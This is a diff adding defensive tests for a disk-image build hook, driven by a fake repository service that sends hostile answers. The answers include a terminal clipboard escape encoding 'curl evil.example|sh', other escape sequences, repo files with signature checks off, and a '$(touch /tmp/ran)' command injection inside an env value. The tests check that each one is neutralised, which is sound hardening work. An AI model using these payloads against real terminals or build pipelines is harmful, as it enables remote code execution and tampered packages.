@@ -5,7 +5,9 @@ printing its log, installs the package list from the version it got and removes 
 """
 
 import re
+import threading
 from collections.abc import Iterator
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 
 import httpx
@@ -156,3 +158,121 @@ def test_a_refusal_fails_the_image_build_saying_why(
     ran = run_phase(build_root, hooks, "post-install", element_environment(service, **extra))
     assert ran.returncode != 0
     assert reason in ran.stderr, ran.stderr
+
+
+#: A fake service's answers, by method and path (query included): status, headers, body.
+Answers = dict[tuple[str, str], tuple[int, dict[str, str], bytes]]
+
+
+class FakeService:
+    """A stand-in for the service that answers what a hostile or broken one could, and records what it was asked."""
+
+    def __init__(self, answers: Answers) -> None:
+        self.answers = answers
+        self.asked: list[str] = []
+        service = self
+
+        class Handler(BaseHTTPRequestHandler):
+            def _answer(self) -> None:
+                self.rfile.read(int(self.headers.get("Content-Length") or 0))
+                service.asked.append(f"{self.command} {self.path}")
+                status, headers, body = service.answers.get((self.command, self.path), (404, {}, b"{}"))
+                self.send_response(status)
+                for name, value in {**headers, "Content-Length": str(len(body))}.items():
+                    self.send_header(name, value)
+                self.end_headers()
+                self.wfile.write(body)
+
+            do_GET = do_POST = _answer
+
+            def log_message(self, format: str, *args: object) -> None:
+                pass
+
+        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
+
+    def __enter__(self) -> "FakeService":
+        threading.Thread(target=self.server.serve_forever, daemon=True).start()
+        return self
+
+    def __exit__(self, *_: object) -> None:
+        self.server.shutdown()
+        self.server.server_close()
+
+
+def run_against(build_root: Path, hooks: Path, answers: Answers, **extra: str) -> tuple[FakeService, str, str]:
+    with FakeService(answers) as fake:
+        environment = {"DIB_OFEDREPO_URL": fake.url, "DIB_OFEDREPO_POLL_INTERVAL": "1", "DIB_OFEDREPO_WAIT": "30",
+                       "DIB_OFEDREPO_KERNEL": TARGET_KERNEL, **extra}  # fmt: skip
+        ran = run_phase(build_root, hooks, "post-install", environment)
+    assert ran.returncode != 0, ran.stdout + ran.stderr
+    return fake, ran.stdout, ran.stderr
+
+
+REQUEST = ("POST", "/api/v1/repos?format=env")
+OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07"
+TERMINAL_TRICKS = f"{OSC52}\x1b[2J\x1b]0;owned\x1b\\\x1b[8mhidden\x1b[0m\r\x9b31m\u009b1m\x00\x7f"
+
+
+def test_what_the_server_sends_reaches_the_terminal_without_escape_sequences(build_root: Path, hooks: Path) -> None:
+    log = f"compiling mlx5_core\n{TERMINAL_TRICKS}visible text\n\tindented line\n".encode()
+    error = f"exited with status 1: cma.c:77:3: error {TERMINAL_TRICKS}undeclared\nsecond line"
+    answers: Answers = {
+        REQUEST: (202, {}, b"OFEDREPO_REPO_ID='1'\nOFEDREPO_BUILD_ID='2'\nOFEDREPO_BUILD_STATE='queued'\n"),
+        ("GET", "/api/v1/builds/2/log?offset=0"): (
+            200, {"X-Build-State": f"failed{OSC52}", "X-Log-Offset": str(len(log))}, log
+        ),
+        ("GET", "/api/v1/builds/2?format=env"): (
+            200, {}, f"OFEDREPO_BUILD_STATE='failed'\nOFEDREPO_ERROR='{error}'\n".encode()
+        ),
+    }  # fmt: skip
+    _, stdout, stderr = run_against(build_root, hooks, answers)
+    for output in (stdout, stderr):
+        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f\x80-\x9f]", output), repr(output)
+    assert "visible text\n\tindented line" in stdout and "hidden" in stdout
+    assert "build 2: failed" in stdout
+    assert "ERROR: build 2 failed: exited with status 1: cma.c:77:3: error " in stderr
+    assert "undeclared\nsecond line" in stderr
+
+
+#: A ``.repo`` file section that dnf would read with signature checks on.
+CHECKED = "[mlnx-ofed]\nname=MLNX_OFED\nbaseurl=http://127.0.0.1:9/RPMS\ngpgcheck=1\ngpgkey=http://127.0.0.1:9/KEY\n"
+
+
+@pytest.mark.parametrize(
+    "repo_file",
+    [
+        CHECKED + "\n[extra]\nname=extra\nbaseurl=http://evil.example/RPMS\ngpgcheck=0\n",
+        CHECKED + "\n[extra]\nname=extra\nbaseurl=http://evil.example/RPMS\n",
+        CHECKED.replace("gpgcheck=1\n", "gpgcheck=1\ngpgcheck = 0\n"),
+        "[extra]\nbaseurl=http://evil.example/RPMS\ngpgcheck=0\n\n" + CHECKED,
+    ],
+    ids=["second-section-off", "second-section-missing", "repeated-key-last-off", "first-section-off"],
+)
+def test_a_repo_file_with_any_section_without_gpgcheck_is_refused(
+    build_root: Path, hooks: Path, repo_file: str
+) -> None:
+    answers: Answers = {
+        REQUEST: (200, {}, b"OFEDREPO_REPO_ID='1'\nOFEDREPO_VERSION='3'\n"),
+        ("GET", "/api/v1/repos/1/repofile?version=3"): (200, {}, repo_file.encode()),
+    }
+    _, _, stderr = run_against(build_root, hooks, answers)
+    assert "does not say gpgcheck=1 in every section" in stderr, stderr
+    assert not (build_root / REPO_FILE).exists()
+
+
+def test_the_env_answer_is_parsed_by_its_quoting_not_by_lines(build_root: Path, hooks: Path) -> None:
+    """A value spanning lines holds a line that looks like a field: it is part of the value, not a field."""
+    answer = (
+        "OFEDREPO_REPO_ID='1'\n"
+        "OFEDREPO_KERNEL='4.18.0 it'\\''s\nOFEDREPO_VERSION=666 $(touch /tmp/ran)'\n"
+        "OFEDREPO_VERSION='3'\n"
+    )
+    answers: Answers = {
+        REQUEST: (200, {}, answer.encode()),
+        ("GET", "/api/v1/repos/1/repofile?version=3"): (200, {}, b"[a]\ngpgcheck=0\n"),
+    }
+    fake, stdout, stderr = run_against(build_root, hooks, answers)
+    assert "repo 1 is published: version 3" in stdout, stdout + stderr
+    assert "GET /api/v1/repos/1/repofile?version=3" in fake.asked
+    assert not (build_root / "tmp" / "ran").exists()
